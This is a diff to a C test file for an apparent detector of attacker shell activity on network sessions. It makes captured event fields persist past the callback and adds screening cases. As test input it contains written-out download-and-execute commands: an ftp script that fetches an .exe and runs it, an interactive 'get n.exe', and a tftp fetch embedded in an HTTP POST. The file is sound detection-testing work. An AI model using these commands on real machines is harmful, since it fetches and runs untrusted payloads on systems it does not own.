@@ -29,7 +29,8 @@ struct log {
 	char text[16384];
 	size_t len;
 	unsigned n;
-	struct ws_shell_event last;
+	struct ws_shell_event last;	/* its strings are copied below (valid only in the callback) */
+	char file[300], local[300], host[300], user[300], pass[300];
 	char addr[WS_ADDR_STRLEN];
 	int attacker;
 };
@@ -44,6 +45,12 @@ static void on_event(const struct ws_shell_event *ev, void *arg)
 				   (int)ev->host_len, ev->host);
 	l->n++;
 	l->last = *ev;
+	snprintf(l->file, sizeof(l->file), "%s", ev->file);
+	snprintf(l->local, sizeof(l->local), "%s", ev->local);
+	snprintf(l->host, sizeof(l->host), "%s", ev->host);
+	snprintf(l->user, sizeof(l->user), "%s", ev->user);
+	snprintf(l->pass, sizeof(l->pass), "%s", ev->pass);
+	l->last.file = l->last.local = l->last.host = l->last.user = l->last.pass = NULL;
 	l->attacker = ev->attacker;
 	ws_addr_str(&ev->addr, l->addr, sizeof(l->addr));
 }
@@ -198,11 +205,11 @@ static void test_ftp_fields(void)
 	CHECK(l.n == 0, "writing the script is silent");
 	feed(s, WS_SIDE_CLIENT, "ftp -n -s:s\n", &l);
 	CHECK(l.n == 1 && l.last.action == WS_SHELL_FTP_GET, "one ftp-get");
-	CHECK(strcmp(l.last.host, "010.0.0.1") == 0 && strcmp(l.addr, "8.0.0.1") == 0,
-	      "host as typed, address as inet_addr reads it: %s %s", l.last.host, l.addr);
+	CHECK(strcmp(l.host, "010.0.0.1") == 0 && strcmp(l.addr, "8.0.0.1") == 0,
+	      "host as typed, address as inet_addr reads it: %s %s", l.host, l.addr);
 	CHECK(l.last.port == 2121 && l.last.proto == WS_SHELL_PROTO_FTP, "port and proto");
-	CHECK(strcmp(l.last.user, "bob") == 0 && strcmp(l.last.pass, "pw") == 0, "user/pass");
-	CHECK(strcmp(l.last.file, "a.exe") == 0 && strcmp(l.last.local, "c:\\b.exe") == 0, "names");
+	CHECK(strcmp(l.user, "bob") == 0 && strcmp(l.pass, "pw") == 0, "user/pass");
+	CHECK(strcmp(l.file, "a.exe") == 0 && strcmp(l.local, "c:\\b.exe") == 0, "names");
 	feed(s, WS_SIDE_CLIENT, "b\n", &l);
 	CHECK(l.n == 2 && l.last.action == WS_SHELL_EXEC, "the local name runs");
 	/* the script ran once: running it again gives the event again, the echo did not grow it */
@@ -212,7 +219,7 @@ static void test_ftp_fields(void)
 	/* interactive, a name for a host: no address */
 	feed(s, WS_SIDE_CLIENT, "ftp -A files.example.net\n", &l);
 	feed(s, WS_SIDE_CLIENT, "get n.exe\n", &l);
-	CHECK(l.n == 4 && strcmp(l.addr, "-") == 0 && strcmp(l.last.user, "anonymous") == 0,
+	CHECK(l.n == 4 && strcmp(l.addr, "-") == 0 && strcmp(l.user, "anonymous") == 0,
 	      "a name is never resolved: %s", l.addr);
 	feed(s, WS_SIDE_CLIENT, "quit\n", &l);
 	feed(s, WS_SIDE_CLIENT, "get q.exe\n", &l);
@@ -407,6 +414,8 @@ static void test_screen(void)
 		{"GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n", 0, WS_SHELL_NONE},
 		{"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>", 0, WS_SHELL_NONE},
 		{"SSH-2.0-OpenSSH_9.2p1\r\n", 0, WS_SHELL_NONE},
+		{"POST /cgi HTTP/1.0\r\n\r\ntftp -i 1.2.3.4 GET x.exe\n", 0, WS_SHELL_NONE},
+		{"220 mail.example.com ESMTP\r\n", 0, WS_SHELL_NONE},
 		{"echo hello\n", 0, WS_SHELL_NONE},
 		{"x C:\\WINDOWS>", 0, WS_SHELL_NONE},	/* not at a line start */
 		{"Microsoft Word\r\n", 0, WS_SHELL_NONE},
